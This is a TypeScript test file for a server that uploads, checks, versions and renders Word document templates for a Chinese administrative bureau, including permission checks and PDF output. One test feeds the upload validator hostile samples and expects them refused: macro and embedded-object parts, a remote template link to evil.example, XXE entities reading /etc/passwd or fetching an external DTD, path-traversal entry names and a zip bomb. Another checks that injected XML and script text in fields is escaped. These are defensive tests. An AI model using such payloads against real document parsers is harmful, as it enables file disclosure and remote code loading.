import PizZip from 'pizzip'
import { definePaper } from '../../../server/bureau/templates/definePaper'
import { makePaper, templateOf } from '../../../server/bureau/templates/makePaper'
import { type Block, writeDocx } from '../../../server/bureau/templates/writeDocx'
import { readTemplate } from '../../../server/kernel/paper'
import { app, asOwner, type Person, person, stop, systemCtx } from '../../support/app'

afterAll(stop)

const field = (name: string, label: string, must = false) => ({ name, label, en: name, sample: `样${label}`, must })
const kind = definePaper({
  code: 'TEST_PAPER', zh: '测试文书', en: 'Test paper',
  fields: [field('name', '姓名', true), field('reason', '理由'), { name: 'members', label: '家庭成员', en: 'Members', fields: [field('name', '姓名'), field('age', '年龄')] }],
  builtIn: [{ text: '原本：{姓名}', size: 22, bold: true, align: 'center' }, { text: '{理由}', indent: 2 }],
})
const KINDS = '{ paperKinds { total items { code zh number version fields { name label must fields { label } } versions { number fileName uploadedByName note losses } } } }'
const CHOOSE = 'mutation ($kind: String!, $version: Int!, $number: Int!) { chooseTemplate(kind: $kind, version: $version, number: $number) { code number version } }'

let officer: Person
let leader: Person
let worker: Person
let sender: Person
beforeEach(async () => {
  sender = await person('bureauAdministrator')
})
beforeAll(async () => {
  officer = await person('bureauOfficer')
  leader = await person('bureauLeader')
  worker = await person('stationWorker')
})

const send = async (who: Person | null, payload: Buffer, { code = 'TEST_PAPER', note = '', language = 'zh' } = {}) => {
  const answer = await (await app()).http.inject({ method: 'POST', url: `/templates/${code}`, payload, headers: { 'content-type': 'application/octet-stream', 'accept-language': language, 'apollo-require-preflight': 'true', 'x-file-name': encodeURIComponent('新版 模板.docx'), 'x-note': encodeURIComponent(note), ...(who && { authorization: `Bearer ${who.token}` }) } })
  return { status: answer.statusCode, ...(answer.json() as { number?: number; losses?: string[]; errors?: { extensions: { code: string; fields?: { file?: string } } }[] }) }
}
/** What somebody is told who sends this; each sender may send so much a minute. */
const refusal = async (payload: Buffer): Promise<string> => (await send(sender, payload)).errors?.[0]?.extensions.fields?.file ?? 'taken'
const fetched = async (who: Person, url: string) => (await app()).http.inject({ url, headers: { authorization: `Bearer ${who.token}` } })
const docx = (...texts: string[]): Buffer => writeDocx(texts.map(text => ({ text })))
/** A document of ours, changed in its parts. */
function changed(bytes: Buffer, change: (zip: PizZip) => void): Buffer {
  const zip = new PizZip(bytes)
  change(zip)
  return zip.generate({ type: 'nodebuffer', compression: 'DEFLATE' })
}
const withXml = (bytes: Buffer, from: string | RegExp, to: string): Buffer => changed(bytes, zip => zip.file('word/document.xml', zip.file('word/document.xml')!.asText().replace(from, to)))
const textOf = (bytes: Uint8Array): string => new PizZip(Buffer.from(bytes)).file('word/document.xml')!.asText().replace(/<[^>]+>/g, '')
/** What a PDF of the filled template shows. */
const shown = async (template: Buffer, data: object) => JSON.stringify((await readTemplate({ template, fields: kind.fields, data: data as never })).paper.content)

it('is downloaded, edited, uploaded, looked at, taken into use, and given back for an earlier one', async () => {
  const before = (await officer.get(KINDS)).paperKinds.items.find((one: any) => one.code === 'TEST_PAPER')
  expect(before).toMatchObject({ zh: '测试文书', number: 0, version: 0, versions: [], fields: [{ label: '姓名', must: true }, { label: '理由', must: false }, { label: '家庭成员', fields: [{ label: '姓名' }, { label: '年龄' }] }] })
  const original = await fetched(officer, '/templates/TEST_PAPER/0')
  expect([original.statusCode, original.headers['content-disposition']]).toEqual([200, `attachment; filename="paper.docx"; filename*=UTF-8''${encodeURIComponent('测试文书 0.docx')}`])

  // Word splits what it likes into runs of its own; a tag is found all the same.
  const edited = withXml(original.rawPayload, '原本：{姓名}', '新本：{姓</w:t></w:r><w:r><w:t>名}')
  expect(await send(officer, edited, { note: '换了标题' })).toEqual({ status: 201, number: 1, losses: [] })
  expect(textOf((await fetched(officer, '/templates/TEST_PAPER/1')).rawPayload)).toBe('新本：{姓名}{理由}')
  const ctx = await systemCtx()
  const made = async () => textOf((await makePaper(ctx, kind, { name: '示例某', reason: '困难' }, 'docx')).bytes)
  expect(await made()).toBe('原本：示例某困难')

  const preview = await fetched(leader, '/templates/TEST_PAPER/1/preview.pdf')
  expect([preview.statusCode, preview.headers['content-type'], preview.rawPayload.subarray(0, 5).toString()]).toEqual([200, 'application/pdf', '%PDF-'])
  expect(textOf((await fetched(leader, '/templates/TEST_PAPER/1/preview.docx')).rawPayload)).toBe('新本：样姓名样理由')

  expect((await officer.get(CHOOSE, { kind: 'TEST_PAPER', version: 0, number: 1 })).chooseTemplate).toEqual({ code: 'TEST_PAPER', number: 1, version: 1 })
  expect(await made()).toBe('新本：示例某困难')
  expect((await officer.ask(CHOOSE, { kind: 'TEST_PAPER', version: 0, number: 0 })).code).toBe('STALE')
  expect((await officer.ask(CHOOSE, { kind: 'TEST_PAPER', version: 1, number: 7 })).code).toBe('NOT_FOUND')
  expect((await officer.ask(CHOOSE, { kind: 'NO_PAPER', version: 0, number: 0 })).code).toBe('NOT_FOUND')
  expect((await officer.get(CHOOSE, { kind: 'TEST_PAPER', version: 1, number: 0 })).chooseTemplate.version).toBe(2)
  expect(await made()).toBe('原本：示例某困难')

  const after = (await leader.get(KINDS)).paperKinds.items.find((one: any) => one.code === 'TEST_PAPER')
  expect(after).toMatchObject({ number: 0, versions: [{ number: 1, fileName: '新版 模板.docx', uploadedByName: '测试bureauOfficer', note: '换了标题' }] })
  const trail = await asOwner("SELECT act, action, note FROM audit_entries WHERE entity IN ('PaperTemplate','TemplateChoice') AND result = 'DONE' ORDER BY id")
  expect(trail).toEqual([{ act: 'uploadTemplate', action: 'TEST_PAPER', note: '1 新版 模板.docx' }, { act: 'chooseTemplate', action: 'TEST_PAPER', note: '1' }, { act: 'chooseTemplate', action: 'TEST_PAPER', note: '0' }])
  const [{ content }] = await asOwner('SELECT content FROM paper_templates WHERE number = 1') as [{ content: Buffer }]
  expect(content.subarray(0, 2).toString()).not.toBe('PK')
})

it('is for whoever may word papers, and looked at by whoever may read templates', async () => {
  expect((await send(null, docx('{姓名}'))).status).toBe(401)
  for (const who of [worker, leader]) expect((await send(who, docx('{姓名}'))).status).toBe(403)
  expect((await send(officer, docx('{姓名}'), { code: 'NO_PAPER' })).status).toBe(404)
  expect((await fetched(worker, '/templates/TEST_PAPER/0')).statusCode).toBe(403)
  for (const url of ['/templates/TEST_PAPER/99', '/templates/TEST_PAPER/x', '/templates/NO_PAPER/0', '/templates/TEST_PAPER/0/preview.exe']) expect((await fetched(officer, url)).statusCode).toBe(404)
  expect((await worker.ask(KINDS)).code).toBe('FORBIDDEN')
  expect((await leader.ask(CHOOSE, { kind: 'TEST_PAPER', version: 0, number: 0 })).code).toBe('FORBIDDEN')
})

it('says in the clerk’s words what is wrong with a template, and takes none that would not be this paper', async () => {
  expect(await refusal(docx('{姓名}', '{收入}'))).toBe('没有“收入”这个字段，请对照字段表更正。')
  expect(await refusal(docx('{姓名'))).toBe('“{姓名”没有写完，缺少“}”。')
  expect(await refusal(docx('姓名}'))).toContain('前面缺少“{”')
  expect(await refusal(docx('｛姓名｝'))).toContain('全角括号')
  expect(await refusal(docx('{理由}'))).toBe('缺少必须有的字段 {姓名}。')
  expect(await refusal(docx('{姓名}{#家庭成员}', '{年龄}'))).toBe('{#家庭成员} 没有对应的 {/家庭成员}。')
  expect(await refusal(docx('{姓名}{/家庭成员}'))).toContain('前面没有')
  expect(await refusal(docx('{姓名}', '{#家庭成员}{#理由}', '{/家庭成员}{/理由}'))).toMatch(/对不上|位置不对/)
  expect(await refusal(docx('{姓名}{家庭成员}'))).toContain('是清单')
  expect(await refusal(docx('{姓名}{年龄}'))).toContain('没有“年龄”')
  for (const tag of ['{@理由}', '{constructor}', '{姓名.length}', '{__proto__}', '{=<% %>=}', '{姓名 | upper}']) expect(await refusal(docx('{姓名}', tag))).toMatch(/没有“|不允许/)
  expect((await send(officer, docx('{name', '{nothing}'), { language: 'en' })).errors![0]!.extensions.fields!.file).toMatch(/lacks its }/)
  expect(await refusal(docx('{name}{#members}', '{姓名}，{age}', '{/members}{^理由}', '无', '{/理由}'))).toBe('taken')
})

it('takes no macros, bombs, outside parts, nor what is no Word document', async () => {
  const good = docx('{姓名}')
  const inside = (name: string, content: string): Buffer => changed(good, zip => void zip.file(name, content))
  expect(await refusal(inside('word/vbaProject.bin', 'x'))).toContain('宏')
  expect(await refusal(inside('word/embeddings/oleObject1.bin', 'x'))).toContain('嵌入')
  expect(await refusal(inside('word/_rels/settings.xml.rels', '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'))).toContain('外部链接')
  expect(await refusal(changed(good, zip => void zip.file('[Content_Types].xml', zip.file('[Content_Types].xml')!.asText().replace('wordprocessingml.document.main', 'ms-word.document.macroEnabled.main'))))).toContain('宏')
  expect(await refusal(withXml(good, '<w:document', '<!DOCTYPE a [<!ENTITY b "c">]><w:document'))).toContain('外部链接')
  expect(await refusal(withXml(good, '<w:document', '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://evil.example/x.dtd"> %b;]><w:document'))).toContain('外部链接')
  expect(await refusal(inside('word/styles.xml', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><w:styles xmlns:w="x">&b;</w:styles>'))).toContain('外部链接')
  for (const name of ['../../../tmp/x.xml', '/etc/x.xml', 'C:/x.xml', 'word\\..\\..\\x.xml']) expect([name, await refusal(inside(name, '<x/>'))]).toEqual([name, expect.stringContaining('无法读取')])
  expect(await refusal(inside('word/bomb.xml', 'x'.repeat(20 * 1024 * 1024)))).toContain('过大')
  expect(await refusal(withXml(good, '<w:body>', `<w:body>${'<w:sdt>'.repeat(300)}${'</w:sdt>'.repeat(300)}`))).toContain('另存为')
  expect(await refusal(Buffer.concat([good, Buffer.alloc(3 * 1024 * 1024)]))).toContain('2 MB')
  for (const bytes of [Buffer.from('PK nonsense'), Buffer.from('\xD0\xCF\x11\xE0old doc', 'latin1'), changed(good, zip => void zip.file('word/document.xml', '<w:document'))]) expect(await refusal(bytes)).toContain('无法读取')
})

it('takes what people wrote as text alone: no tag and no XML comes in by a field', async () => {
  const ctx = await systemCtx()
  const hostile = { name: '{理由}</w:t><w:br/>&amp;<script>', reason: '{#家庭成员}\u0000一\n二{/家庭成员}\u0007', members: [{ name: '{年龄}', age: 9 }] }
  const template = docx('{姓名}', '{理由}', '{#家庭成员}', '{姓名}{年龄}{没有}'.replace('{没有}', ''), '{/家庭成员}')
  expect((await send(officer, template)).status).toBe(201)
  const { number } = (await officer.get(KINDS)).paperKinds.items.find((one: any) => one.code === 'TEST_PAPER').versions[0]
  await officer.get(CHOOSE, { kind: 'TEST_PAPER', version: 2, number })
  const { bytes } = await makePaper(ctx, kind, hostile, 'docx')
  const xml = new PizZip(Buffer.from(bytes)).file('word/document.xml')!.asText()
  expect(xml).toContain('{理由}&lt;/w:t&gt;&lt;w:br/&gt;&amp;amp;&lt;script&gt;')
  expect(xml).toContain('{#家庭成员}一</w:t>')
  expect(xml).toContain('{年龄}9')
  expect(xml).not.toMatch(/[\u0000\u0007]/)
  expect(await shown(await templateOf(ctx, kind, number), hostile)).toContain('{理由}</w:t><w:br/>&amp;<script>')
  const pdf = await makePaper(ctx, kind, { ...hostile, name: '示例𪛕' }, 'pdf')
  expect([Buffer.from(pdf.bytes).subarray(0, 5).toString(), pdf.lacking]).toEqual(['%PDF-', ['𪛕']])
})

/** As much of a drawn block as is looked at here. */
interface Drawn {
  text: { text: string }[]
  table: { widths: number[]; body: object[][] }
  pageBreak?: string
}

describe('the PDF', () => {
  const blocks: Block[] = [{ text: '标题{姓名}', font: '黑体', size: 22, bold: true, align: 'center' }, { text: '正文{理由}', indent: 2 }, { columns: [1, 3], rows: [['甲', '{姓名}'], ['乙', '丙']] }]

  it('is drawn from what stands in the document: letters, places, tables, numbers', async () => {
    const { paper, lost } = await readTemplate({ template: writeDocx(blocks), fields: kind.fields, data: { name: '示例某', reason: '一\n二' } })
    const [title, text, table] = paper.content as unknown as [Drawn, Drawn, Drawn]
    expect(title).toMatchObject({ alignment: 'center', text: [{ text: '标题示例某', bold: true, fontSize: 22, font: 'Hei' }] })
    expect(text).toMatchObject({ alignment: 'justify', leadingIndent: 32 })
    expect(text.text.map(run => run.text).join('')).toBe('正文一\n二')
    expect(text.text[0]).toMatchObject({ font: 'Kai', fontSize: 16 })
    expect(table.table.body).toHaveLength(2)
    expect(table.table.body[0]![1]).toMatchObject({ border: [true, true, true, true], verticalAlignment: 'middle', stack: [{ text: [{ text: '示例某', fontSize: 12 }] }] })
    expect(table.table.widths[1]! / table.table.widths[0]!).toBeGreaterThan(2.5)
    const kept = await readTemplate({ template: writeDocx([{ text: '{姓名}', keep: true }, { text: '日期' }, { text: '后文' }]), fields: kind.fields, data: { name: '示例某' } })
    expect(kept.paper.content).toMatchObject([{ unbreakable: true, stack: [{ text: [{ text: '示例某' }] }, { text: [{ text: '日期' }] }] }, { text: [{ text: '后文' }] }])
    expect([paper, lost]).toMatchObject([{ pageSize: { width: 595.3 }, footer: { stack: [{ text: [{ text: '— ' }, { text: '\uE000' }, { text: ' —' }] }] } }, []])
  })

  it('carries what Word’s editors use, and names what it does not show', async () => {
    const body = `<w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>第一</w:t></w:r></w:p><w:p><w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr><w:ins><w:r><w:rPr><w:u w:val="single"/><w:color w:val="FF0000"/></w:rPr><w:t>第二{姓名}</w:t></w:r></w:ins><w:del><w:r><w:delText>删去</w:delText></w:r></w:del></w:p>
      <w:p><w:r><w:br w:type="page"/></w:r><w:r><w:t>次页</w:t><w:tab/></w:r><w:r><w:drawing/></w:r></w:p>
      <w:tbl><w:tblGrid><w:gridCol w:w="2000"/><w:gridCol w:w="2000"/></w:tblGrid><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2"/></w:tcPr><w:p><w:r><w:t>跨两列</w:t></w:r></w:p></w:tc></w:tr><w:tr><w:tc><w:tcPr><w:vMerge w:val="restart"/></w:tcPr><w:p/></w:tc><w:tc><w:p/></w:tc></w:tr><w:tr><w:tc><w:tcPr><w:vMerge/></w:tcPr><w:p/></w:tc><w:tc><w:p/></w:tc></w:tr></w:tbl>`
    const numbering = `<w:numbering xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:abstractNum w:abstractNumId="0"><w:lvl w:ilvl="0"><w:start w:val="1"/><w:numFmt w:val="chineseCounting"/><w:lvlText w:val="%1、"/><w:suff w:val="nothing"/></w:lvl></w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>`
    const template = changed(withXml(docx('x'), /<w:p>.*<\/w:p>/, body), zip => void zip.file('word/numbering.xml', numbering))
    const { paper, lost } = await readTemplate({ template, fields: kind.fields, data: { name: '示例某' } })
    const content = paper.content as unknown as Drawn[]
    expect(content.slice(0, 2).map(one => one.text.map(run => run.text).join(''))).toEqual(['一、第一', '二、第二示例某'])
    expect(content[1]!.text[1]).toMatchObject({ decoration: 'underline', color: '#FF0000' })
    expect(content.find(one => one.pageBreak === 'before')).toMatchObject({ text: [{ text: '次页' }, { text: '\u3000\u3000' }] })
    expect(content.at(-1)!.table.body[0]![0]).toMatchObject({ colSpan: 2 })
    expect(content.at(-1)!.table.body[1]![0]).toMatchObject({ rowSpan: 2 })
    expect(lost.sort()).toEqual(['PICTURE', 'TABS'])
    expect((await send(officer, template)).losses!.sort()).toEqual(['PICTURE', 'TABS'])
  })
})
